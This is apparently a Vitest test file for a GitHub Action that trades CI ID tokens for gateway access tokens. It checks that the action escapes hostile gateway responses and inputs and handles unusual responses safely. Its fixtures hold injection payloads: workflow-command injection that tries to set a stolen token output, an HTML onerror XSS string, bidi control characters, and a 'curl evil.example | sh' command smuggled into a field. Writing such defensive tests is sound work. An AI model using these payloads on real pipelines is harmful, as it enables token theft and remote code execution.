import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { type CiHouse, startCiHouse } from '../support/ci-house.ts'
import { type GithubPlatform, startGithubPlatform } from '../support/github-platform.ts'
import { type GithubRunner, type StepOptions, startGithubRunner } from '../support/github-runner.ts'
import { type StubAnswer, type StubServer, startStubServer } from '../support/stub-server.ts'

let house: CiHouse
let github: GithubPlatform
let runner: GithubRunner
let gateway: StubServer | undefined

beforeAll(async () => {
  house = await startCiHouse()
})

afterAll(() => house?.close())

beforeEach(async () => {
  github = await startGithubPlatform(house)
  runner = await startGithubRunner(() => [
    ...github.minted,
    github.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN ?? '-',
  ])
})

afterEach(async () => {
  await Promise.all([runner?.close(), github?.close(), gateway?.close()])
  gateway = undefined
})

const main = (given: Record<string, string> = {}, more: StepOptions = {}) =>
  runner.main({
    ...more,
    with: { url: gateway?.url ?? house.gateway.url, 'service-account': 'cli_deploy', ...given },
    env: { ...github.env, ...more.env },
  })

/** Puts somebody else where the gateway should be; the last answer stays. */
const play = async (...answers: StubAnswer[]): Promise<StubServer> => {
  gateway = await startStubServer(
    (_, before) => answers[Math.min(before, answers.length - 1)] ?? 'drop',
  )
  return gateway
}

const refused = (more: object) => ({
  status: 400,
  body: {
    error: 'invalid_request',
    error_description: 'subject token refused',
    decision_id: 'dec_01abc',
    ...more,
  },
})

const evil = [
  'refs/heads/x\n::set-output name=token::stolen\r\n::stop-commands::x',
  '##[add-mask]a ##[error]b',
  '%0A::error::x',
  '</code></td></tr></table><img src=x onerror=alert(1)>',
  '|a|`b`[c](javascript:d)\n\n# @everyone',
  '\u001b[2J\u202egnp.exe\u2028::warning::y',
].join(' ')

const unsafe = /(?!\n)[\p{Cc}\p{Bidi_Control}\u2028]/u

describe('what others wrote', () => {
  test('is text in the log, the annotation and the summary', async () => {
    await play(
      refused({
        reason: 'policy_mismatch',
        failed_claims: [
          { claim: 'ref', actual: evil },
          { claim: evil, actual: { [evil]: [evil] } },
        ],
      }),
    )
    const { code, annotations, summary, raw } = await main({ debug: 'true' })
    expect(code).toBe(1)
    expect(annotations).toHaveLength(1)
    expect(annotations[0]?.split('\n')).toHaveLength(4)
    expect(raw).not.toMatch(unsafe)
    const cells = summary.match(/<code>[^<]*<\/code>/g) ?? []
    expect(cells.length).toBeGreaterThan(6)
    const rest = cells.reduce((text, cell) => text.replace(cell, ''), summary)
    expect(rest).not.toMatch(/img|javascript|everyone|[`|@]/)
    expect(cells.join('').replaceAll(/<\/?code>/g, '')).not.toMatch(/[`|@[\]*()"'<>#](?!\d+;)/)
  })

  test.each([
    ['the reason', { reason: evil }],
    ['the description', { error_description: evil }],
    ['the error', { error: evil }],
    ['the decision id', { decision_id: 'dec_1; curl evil.example | sh #' }],
    ['claims that are none', { reason: 'policy_mismatch', failed_claims: 'all of them' }],
  ])('is not obeyed as %s of an answer', async (_, more) => {
    await play(refused(more))
    const { code, annotations, raw, outputs } = await main()
    expect([code, annotations.length, outputs]).toEqual([1, 1, {}])
    expect(raw).not.toMatch(unsafe)
    expect(raw).not.toContain('curl evil')
  })

  test('is text where it is an input, too', async () => {
    for (const given of [
      { url: evil },
      { 'service-account': evil },
      { scopes: evil },
      { 'expect-scopes': evil },
      { timeout: evil },
      { debug: evil },
      { 'export-env': evil },
      { 'skip-token-revoke': evil },
    ]) {
      const { code, annotations, raw } = await main(given)
      expect([code, annotations.length]).toEqual([1, 1])
      expect(annotations[0]).toContain(Object.keys(given)[0])
      expect(raw).not.toMatch(unsafe)
      expect(github.asked).toEqual([])
    }
  })

  test('in a claim of the ID token is text as well', async () => {
    github.claims = { actor: evil, [evil]: evil, '::stop-commands::x': '::debug::y' }
    const { log, raw } = await main({ debug: 'true' })
    expect(log).toContain('- actor = "refs/heads/x\\n::set-output')
    expect(raw).not.toMatch(unsafe)
  })
})

test.each(['GITHUB_OUTPUT', 'GITHUB_STATE', 'GITHUB_ENV'])(
  'a runner without %s would have to be told the token in the log, and is refused',
  async (name) => {
    const { code, annotations } = await main({}, { env: { [name]: undefined } })
    expect(code).toBe(1)
    expect(annotations[0]).toContain(`This runner gives steps no ${name}`)
    expect(github.asked).toEqual([])
  },
)

describe('what answers like no gateway', () => {
  test.each<[string, StubAnswer]>([
    ['a page', { status: 200, body: '<html>', headers: { 'content-type': 'text/html' } }],
    ['another API', { status: 404, body: { message: 'no route' } }],
    ['a redirect', { status: 307, headers: { location: 'http://127.0.0.1:1/oauth/token' } }],
    ['a token that is none', { status: 200, body: { access_token: 'a b', token_type: 'Bearer' } }],
    ['far too much', { status: 200, body: `{"access_token":"${'x'.repeat(99_999)}"}` }],
  ])('%s is said to be none, at once', async (_, answer) => {
    const { asked } = await play(answer)
    const { code, annotations, state } = await main()
    expect(code).toBe(1)
    expect(annotations[0]).toContain('is not a gateway')
    expect(asked).toHaveLength(1)
    expect(state).toEqual({})
  })

  test('an opaque token is masked, kept and revoked all the same', async () => {
    const token = 'gth_opaque_0123456789abcdef'
    const { asked } = await play(
      {
        status: 200,
        body: { access_token: token, token_type: 'Bearer', expires_in: 60, scope: 'a' },
      },
      { status: 200 },
    )
    const { code, outputs, log, state } = await main()
    expect([code, outputs.token, outputs.jti]).toEqual([0, token, ''])
    expect(log).not.toContain(token)
    expect((await runner.post(state)).annotations).toEqual([])
    expect(asked[1]?.form.get('token')).toBe(token)
    expect(asked[1]?.form.get('client_id')).toBe('cli_deploy')
  })
})
